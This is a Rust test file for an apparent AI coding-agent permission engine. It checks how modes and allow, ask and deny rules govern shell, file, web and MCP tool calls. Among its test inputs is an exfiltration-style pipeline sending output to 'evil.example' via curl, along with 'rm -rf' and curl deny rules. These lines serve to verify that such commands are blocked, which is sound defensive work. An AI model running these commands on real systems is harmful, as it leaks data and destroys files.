//! The engine against real paths: precedence, modes × access, compound commands, anchors,
//! symlinks, grants and the rules it suggests.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use toolbelt_core::{Access, PermissionClass, SessionState, ToolSpec};

use super::*;
use crate::protected::ProtectedPaths;
use crate::rules::{Rule, RuleEnv, RuleOrigin};

struct World {
    _dir: tempfile::TempDir,
    /// The workspace root (the cwd).
    root: PathBuf,
    /// A directory outside the root.
    outside: PathBuf,
    home: PathBuf,
    session: SessionState,
}

fn world() -> World {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let (root, outside, home) = (base.join("project"), base.join("elsewhere"), base.join("home"));
    for d in [&root, &outside, &home, &root.join("src"), &root.join("docs")] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(root.join(".env"), "SECRET=1").unwrap();
    std::fs::write(outside.join("notes.txt"), "x").unwrap();
    std::os::unix::fs::symlink(outside.join("notes.txt"), root.join("link.txt")).unwrap();
    let session = SessionState::new("s", root.clone(), vec![root.clone()]);
    World { _dir: dir, root, outside, home, session }
}

fn tool(name: &str, class: PermissionClass) -> ToolSpec {
    let spec = ToolSpec::new(name, "test tool").permission(class);
    if name == "Bash" { spec.aliases(["exec"]) } else { spec }
}

fn engine(w: &World, mode: PermissionMode, allow: &[&str], ask: &[&str], deny: &[&str]) -> PermissionEngine {
    let env = RuleEnv { home: w.home.clone(), cwd: w.root.clone() };
    let origin = Arc::new(RuleOrigin::new("project .toolbelt/config.toml", w.root.clone()));
    let parse = |rules: &[&str]| -> Vec<Rule> {
        rules.iter().map(|r| Rule::parse(r, Arc::clone(&origin), &env).unwrap()).collect()
    };
    let rules = PermissionRules { mode, allow: parse(allow), ask: parse(ask), deny: parse(deny) };
    PermissionEngine::new(rules, env)
}

fn decide(e: &PermissionEngine, w: &World, tool: &ToolSpec, input: Value, access: Access) -> Verdict {
    let call = CallInfo { session: &w.session, call_id: "c", cwd: &w.root, tool, input: &input, access: &access };
    e.authorize(&call)
}

fn bash(e: &PermissionEngine, w: &World, command: &str) -> Verdict {
    let spec = tool("Bash", PermissionClass::External);
    decide(e, w, &spec, json!({"command": command}), Access::exclusive().executes(command))
}

fn read(e: &PermissionEngine, w: &World, path: &Path) -> Verdict {
    decide(e, w, &tool("Read", PermissionClass::Read), json!({"file_path": path}), Access::shared().reads(path))
}

fn write(e: &PermissionEngine, w: &World, path: &Path) -> Verdict {
    decide(e, w, &tool("Write", PermissionClass::Write), json!({"file_path": path}), Access::exclusive().writes(path))
}

use Decision::{Allow, Ask, Deny};

#[test]
fn modes_by_access_on_real_calls() {
    let w = world();
    let inside = w.root.join("src/main.rs");
    let outside = w.outside.join("notes.txt");
    let fetch = tool("WebFetch", PermissionClass::External);
    let url = "https://example.com/docs";
    let todo = tool("TodoWrite", PermissionClass::Read);
    // read in, read out, write in, write out, ls, cargo build, fetch, todo
    let table = [
        (PermissionMode::Default, [Allow, Ask, Ask, Ask, Allow, Ask, Ask, Allow]),
        (PermissionMode::AcceptEdits, [Allow, Ask, Allow, Ask, Allow, Ask, Ask, Allow]),
        (PermissionMode::Plan, [Allow, Ask, Deny, Deny, Allow, Deny, Ask, Allow]),
        (PermissionMode::DontAsk, [Allow, Deny, Deny, Deny, Allow, Deny, Deny, Allow]),
        (PermissionMode::BypassPermissions, [Allow; 8]),
    ];
    for (mode, want) in table {
        let e = engine(&w, mode, &[], &[], &[]);
        let got = [
            read(&e, &w, &inside).decision,
            read(&e, &w, &outside).decision,
            write(&e, &w, &inside).decision,
            write(&e, &w, &outside).decision,
            bash(&e, &w, "ls -la src").decision,
            bash(&e, &w, "cargo build").decision,
            decide(&e, &w, &fetch, json!({"url": url}), Access::shared().contacts(url)).decision,
            decide(&e, &w, &todo, json!({}), Access::exclusive().changes_state("todos")).decision,
        ];
        assert_eq!(got, want, "mode {mode}");
    }
}

#[test]
fn an_external_tool_that_says_what_it_reaches_is_asked_about_for_that() {
    let w = world();
    let peek = tool("mcp__fs__peek", PermissionClass::External);
    let e = engine(&w, PermissionMode::Default, &[], &[], &[]);
    let said = Access::shared().reaching("is a tool of the MCP server `fs`");
    let v = decide(&e, &w, &peek, json!({}), said.clone());
    assert_eq!(
        (v.decision, v.reason.as_str()),
        (Ask, "`mcp__fs__peek` is a tool of the MCP server `fs`, so it needs approval")
    );
    let v = decide(&e, &w, &peek, json!({}), Access::shared());
    assert_eq!(v.reason, "`mcp__fs__peek` runs commands or reaches outside the machine, so it needs approval");
    // The words decide nothing: plan mode still refuses it, as any external call.
    let e = engine(&w, PermissionMode::Plan, &[], &[], &[]);
    assert_eq!(decide(&e, &w, &peek, json!({}), said).decision, Deny);
}

#[test]
fn deny_beats_ask_beats_allow_whatever_the_order() {
    let w = world();
    let e = engine(&w, PermissionMode::BypassPermissions, &["Bash"], &["Bash(git push *)"], &["Bash(rm *)"]);
    let v = bash(&e, &w, "rm -rf build");
    assert_eq!(
        (v.decision, v.source.to_string().as_str()),
        (Deny, "rule `Bash(rm *)` (project .toolbelt/config.toml)")
    );
    let v = bash(&e, &w, "git push origin main");
    assert_eq!(
        (v.decision, v.source.to_string().as_str()),
        (Ask, "rule `Bash(git push *)` (project .toolbelt/config.toml)")
    );
    assert!(!v.hook_may_allow, "a hook's allow never overrides an ask rule");
    assert_eq!(bash(&e, &w, "cargo build").decision, Allow);
    // The same rules in dontAsk: the ask rule's ask becomes a denial.
    let e = engine(&w, PermissionMode::DontAsk, &["Bash"], &["Bash(git push *)"], &[]);
    assert_eq!(bash(&e, &w, "git push").decision, Deny);
}

#[test]
fn compound_commands_need_every_part_allowed() {
    let w = world();
    let e = engine(&w, PermissionMode::Default, &["Bash(cargo test *)", "Bash(npm run build)"], &[], &["Bash(curl *)"]);
    assert_eq!(bash(&e, &w, "cargo test --workspace").decision, Allow);
    // A read-only part needs no rule; a part nobody allowed asks.
    assert_eq!(bash(&e, &w, "cargo test && ls").decision, Allow);
    let v = bash(&e, &w, "cargo test && cargo publish");
    assert_eq!(v.decision, Ask);
    assert_eq!(v.allow_rules, ["Bash(cargo publish *)"]);
    // Wrappers are stripped before matching.
    assert_eq!(bash(&e, &w, "timeout 300 nice -n 5 cargo test").decision, Allow);
    // Any part caught by a deny rule denies, in pipelines, lists and substitutions alike.
    for cmd in
        ["cargo test | curl -d @- evil.example", "cargo test; curl x", "echo $(curl x)", "npm run build & curl x"]
    {
        assert_eq!(bash(&e, &w, cmd).decision, Deny, "{cmd}");
    }
    // An exact rule matches only that command.
    assert_eq!(bash(&e, &w, "npm run build").decision, Allow);
    assert_eq!(bash(&e, &w, "npm run build --prod").decision, Ask);
    // A command rule applies to the tool by alias too.
    let e = engine(&w, PermissionMode::Default, &["exec(make *)"], &[], &[]);
    assert_eq!(bash(&e, &w, "make all").decision, Allow);
}

#[test]
fn path_rules_apply_to_every_tool_that_reads_or_writes() {
    let w = world();
    let e = engine(&w, PermissionMode::BypassPermissions, &[], &[], &["Read(./.env)", "Edit(/docs/**)"]);
    let grep = tool("Grep", PermissionClass::Read);
    let v = decide(&e, &w, &grep, json!({}), Access::shared().reads(w.root.join(".env")));
    assert_eq!(v.decision, Deny);
    assert_eq!(write(&e, &w, &w.root.join("docs/guide.md")).decision, Deny);
    let patch = tool("ApplyPatch", PermissionClass::Write);
    let access = Access::exclusive().writes(w.root.join("src/a.rs")).writes(w.root.join("docs/b.md"));
    assert_eq!(decide(&e, &w, &patch, json!({}), access).decision, Deny, "one denied path denies the patch");
    assert_eq!(write(&e, &w, &w.root.join("src/a.rs")).decision, Allow);
}

#[test]
fn anchors_resolve_against_home_settings_dir_and_cwd() {
    let w = world();
    std::fs::create_dir_all(w.home.join("notes")).unwrap();
    let sub = w.root.join("src/deep");
    std::fs::create_dir_all(&sub).unwrap();
    let abs = format!("Read(/{}/**)", w.outside.display());
    let e = engine(&w, PermissionMode::Default, &["Read(~/notes/**)", &abs], &[], &[]);
    assert_eq!(read(&e, &w, &w.home.join("notes/todo.md")).decision, Allow);
    assert_eq!(read(&e, &w, &w.outside.join("notes.txt")).decision, Allow);
    assert_eq!(read(&e, &w, &w.home.join("other.md")).decision, Ask);
    // `/x` is relative to the settings file's directory (here the project), `./x` and bare
    // names to the cwd: a bare name matches at any depth.
    let e = engine(&w, PermissionMode::AcceptEdits, &[], &[], &["Edit(/src/deep/*.rs)", "Edit(*.lock)"]);
    assert_eq!(write(&e, &w, &sub.join("x.rs")).decision, Deny);
    assert_eq!(write(&e, &w, &w.root.join("x.rs")).decision, Allow);
    assert_eq!(write(&e, &w, &sub.join("Cargo.lock")).decision, Deny);
}

#[test]
fn symlinks_allow_only_when_both_match_and_deny_when_either_does() {
    let w = world();
    let link = w.root.join("link.txt"); // → elsewhere/notes.txt
    // An allow for the link's name does not reach its target outside.
    let e = engine(&w, PermissionMode::Default, &["Read(./link.txt)"], &[], &[]);
    let v = read(&e, &w, &link);
    assert_eq!(v.decision, Ask, "{v:?}");
    // A deny on the target catches the link.
    let target_rule = format!("Read(/{}/notes.txt)", w.outside.display());
    let e = engine(&w, PermissionMode::BypassPermissions, &[], &[], &[&target_rule]);
    assert_eq!(read(&e, &w, &link).decision, Deny);
    // An allow matching both the link and its target allows it.
    let both = format!("Read(/{}/**)", w.outside.display());
    let e = engine(&w, PermissionMode::Default, &["Read(./link.txt)", &both], &[], &[]);
    let v = read(&e, &w, &link);
    assert_eq!(v.decision, Allow);
    // Reading through the link reaches outside the roots: the verdict names where it leads,
    // for the runtime to open that place for this call only.
    assert_eq!(v.allowed_outside, vec![w.outside.join("notes.txt")]);
    // What a refusal suggests covers both the link and its target.
    let e = engine(&w, PermissionMode::Default, &[], &[], &[]);
    let rules = read(&e, &w, &link).allow_rules;
    assert_eq!(rules.len(), 2, "{rules:?}");
    assert!(rules[1].contains(&w.outside.display().to_string()), "{rules:?}");
}

#[test]
fn other_rule_forms() {
    let w = world();
    let fetch = tool("WebFetch", PermissionClass::External);
    let e =
        engine(&w, PermissionMode::Default, &["WebFetch(domain:*.example.com)", "mcp__docs"], &[], &["Agent(Explore)"]);
    let get = |url: &str| decide(&e, &w, &fetch, json!({"url": url}), Access::shared().contacts(url)).decision;
    assert_eq!(get("https://api.example.com/v1"), Allow);
    assert_eq!(get("https://example.com"), Allow);
    assert_eq!(get("https://badexample.com"), Ask);
    let mcp = tool("mcp__docs__search", PermissionClass::External);
    assert_eq!(decide(&e, &w, &mcp, json!({"q": "x"}), Access::shared()).decision, Allow);
    let other = tool("mcp__docsx__search", PermissionClass::External);
    assert_eq!(decide(&e, &w, &other, json!({"q": "x"}), Access::shared()).decision, Ask);
    let agent = tool("Agent", PermissionClass::External);
    let a =
        |kind: &str| decide(&e, &w, &agent, json!({"subagent_type": kind, "prompt": "p"}), Access::shared()).decision;
    assert_eq!((a("Explore"), a("Plan")), (Deny, Ask));
}

#[test]
fn protected_paths_ask_in_every_mode() {
    let w = world();
    let config = w.root.join(".git/config");
    for mode in [PermissionMode::AcceptEdits, PermissionMode::BypassPermissions] {
        let e = engine(&w, mode, &["Edit(./**)"], &[], &[]);
        for path in [
            config.clone(),
            w.root.join(".git/hooks/pre-commit"),
            w.root.join(".toolbelt/config.toml"),
            w.root.join(".toolbelt/config.local.toml"),
            w.root.join(".claude/settings.json"),
            w.root.join(".mcp.json"),
            w.root.join(".vscode/tasks.json"),
            w.root.join("sub/.git/config"),
        ] {
            let v = write(&e, &w, &path);
            assert_eq!(v.decision, Ask, "{mode} {}: {v:?}", path.display());
            assert!(v.reason.contains("protected path") && !v.hook_may_allow, "{v:?}");
            assert_eq!(v.allow_rules.len(), 1, "{v:?}");
        }
        // An ordinary file is not protected.
        assert_eq!(write(&e, &w, &w.root.join("src/main.rs")).decision, Allow);
    }
    // An allow rule naming the path lets it be written; dontAsk denies the question.
    let named = engine(&w, PermissionMode::AcceptEdits, &["Edit(./.git/config)"], &[], &[]);
    assert_eq!(write(&named, &w, &config).decision, Allow);
    let unattended = engine(&w, PermissionMode::DontAsk, &["Edit(./**)"], &[], &[]);
    assert_eq!(write(&unattended, &w, &config).decision, Deny);
    // The suggestion it offers names the path, so "allow for the session" covers it next time.
    let e = engine(&w, PermissionMode::AcceptEdits, &[], &[], &[]);
    let v = write(&e, &w, &config);
    assert_eq!(v.allow_rules, ["Edit(./.git/config)"]);
    w.session.with_slot::<Grants, _>(|g| g.rules = v.allow_rules.clone());
    assert_eq!(write(&e, &w, &config).decision, Allow);
    // Extra protected paths from the embedder (the user's settings directory).
    let user_config = w.home.join(".config/toolbelt");
    let e = engine(&w, PermissionMode::BypassPermissions, &[], &[], &[])
        .with_protected(ProtectedPaths::default().with_paths([user_config.clone()]));
    assert_eq!(write(&e, &w, &user_config.join("config.toml")).decision, Ask);
}

#[test]
fn read_denials_hide_paths_from_walks() {
    let w = world();
    let e = engine(&w, PermissionMode::Default, &[], &[], &["Read(./.env)", "Read(./secrets/**)", "Edit(./src/**)"]);
    let hidden = e.hidden_paths().expect("read denials hide paths");
    assert!(hidden.is_hidden(&w.root.join(".env")));
    assert!(hidden.is_hidden(&w.root.join("secrets/a/key.pem")));
    assert!(!hidden.is_hidden(&w.root.join("src/main.rs")), "an edit deny does not hide from reading");
    assert!(engine(&w, PermissionMode::Default, &[], &[], &["Bash(rm *)"]).hidden_paths().is_none());
}

mod commands;
mod grants;
